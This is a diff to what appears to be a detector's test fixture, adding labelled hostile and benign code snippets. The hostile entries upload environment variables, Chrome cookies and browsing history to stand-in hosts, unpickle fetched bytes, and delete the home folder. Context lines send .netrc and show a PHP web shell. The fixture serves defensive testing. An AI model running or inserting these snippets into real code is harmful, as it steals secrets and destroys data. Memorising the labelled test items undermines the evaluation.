@@ -300,6 +300,27 @@ HOSTILE = {
         "s.write(fs.readFileSync(os.homedir() + '/.netrc'));", "key files"),
     "a runner's name built from pieces and given a request value": (
         "<?php $f = 'sys' . 'tem'; $c = $_GET['c']; $f($c); ?>", "web requests"),
+    # session 41: classes of blind set 13's misses (looked at after its first look), written again here
+    "the environment written to a file that is then uploaded": (
+        "with open('/tmp/.ctx.json', 'w') as fh:\n    json.dump(dict(os.environ), fh)\n"
+        "requests.post('https://t.example.org/u', files={'f': open('/tmp/.ctx.json', 'rb')})", "environment"),
+    "browser cookies archived into a variable's path and uploaded": (
+        "$zip = Join-Path $env:TEMP 'b.zip'\n"
+        "Compress-Archive -Path \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Network\\Cookies\" "
+        "-DestinationPath $zip\nInvoke-WebRequest -Uri http://198.51.100.23/u -Method Post -InFile $zip", "cookies"),
+    "the browsing history copied and sent": (
+        "def rows():\n    src = os.path.expanduser('~/.config/chromium/Default/History')\n"
+        "    shutil.copy(src, '/tmp/h.db')\n"
+        "    return sqlite3.connect('/tmp/h.db').execute('select url from urls').fetchall()\n"
+        "\nrequests.post('https://t.example.org/h', json=rows())", "browsing history"),
+    "a Go HTTP client posting the environment": (
+        "body := strings.Join(os.Environ(), \"\\n\")\nclient := &http.Client{Timeout: 2 * time.Second}\n"
+        "client.Post(\"http://203.0.113.40:8080/e\", \"text/plain\", bytes.NewBufferString(body))", "environment"),
+    "bytes a method fetches unpickled": (
+        "class Cache:\n    def _get(self):\n        return urllib.request.urlopen('http://203.0.113.33/m.pkl').read()\n\n"
+        "    def load(self):\n        blob = self._get()\n        return pickle.loads(blob)", "fetched code"),
+    "the home folder as a lookup's default, removed": (
+        "root = os.environ.get('CACHE_ROOT', os.path.expanduser('~'))\nshutil.rmtree(root)", "home or system"),
     "the environment kept in one object's attribute and sent from another": (
         "class _State:\n    def __init__(self):\n        self.secrets = {k: v for k, v in os.environ.items()}\n\n"
         "class Reporter:\n    def __init__(self):\n        self.state = _State()\n\n    def send(self):\n"
@@ -500,6 +521,14 @@ BENIGN = {
     "screen names sent to the app's own window": (
         "const sources = await desktopCapturer.getSources({ types: ['screen'] });\n"
         "mainWindow.webContents.send('screens', sources.map(s => s.name));"),
+    "a report written to a file and uploaded": (
+        "with open('/tmp/report.json', 'w') as fh:\n    json.dump({'passed': 41, 'failed': 2}, fh)\n"
+        "requests.post('https://ci.example.com/upload', files={'f': open('/tmp/report.json', 'rb')})"),
+    "a Go HTTP client posting a status": (
+        "client := &http.Client{Timeout: 2 * time.Second}\n"
+        "client.Post(\"https://status.example.com/ping\", \"text/plain\", strings.NewReader(\"ok\"))"),
+    "a cache root defaulting to the cache folder": (
+        "root = os.environ.get('CACHE_ROOT', os.path.expanduser('~/.cache/app'))\nshutil.rmtree(root)"),
     "a poller that sleeps between requests": (
         "while True:\n    r = requests.get('https://status.example.com/api')\n    r.raise_for_status()\n"
         "    time.sleep(30)"),
